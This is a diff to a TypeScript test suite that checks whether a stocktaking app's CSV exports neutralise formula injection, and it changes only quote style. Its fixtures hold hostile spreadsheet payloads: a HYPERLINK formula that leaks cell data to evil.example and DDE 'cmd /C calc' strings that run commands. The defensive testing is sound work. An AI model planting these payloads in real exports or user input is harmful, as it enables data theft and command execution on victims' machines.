@@ -12,8 +12,8 @@ import { type TestServer, startTestServer, tempDir } from './support/test-server
 
 const NAMES = {
   hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-  plus: '+1+cmd|\' /C calc\'!A0',
-  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  plus: "+1+cmd|' /C calc'!A0",
+  at: "@SUM(1+1)*cmd|' /C calc'!A0",
   quoted: "'=already quoted",
   apostrophe: "'plain",
 };
@@ -82,7 +82,7 @@ describe('CSV formula injection', () => {
   it("neutralises unknown scanned barcodes and names in a session's counts.csv", async () => {
     const created = await server.request('POST', STOCKTAKES_PATH, { token: server.tokens.shop, body: { warehouse_name: '=Main' } });
     const { id } = (await created.json()) as { id: number };
-    for (const barcode of ['=cmd|\'/C calc\'!A0', '-2+3', 'H1']) {
+    for (const barcode of ["=cmd|'/C calc'!A0", '-2+3', 'H1']) {
       expect((await server.request('POST', stocktakePath(id, 'scans'), { token: server.tokens.shop, body: { barcode } })).status).toBe(201);
     }
     const counts = rowsOf(await (await server.request('GET', `${STOCKTAKES_PATH}${id}/counts.csv`, { token: server.tokens.shop })).text());
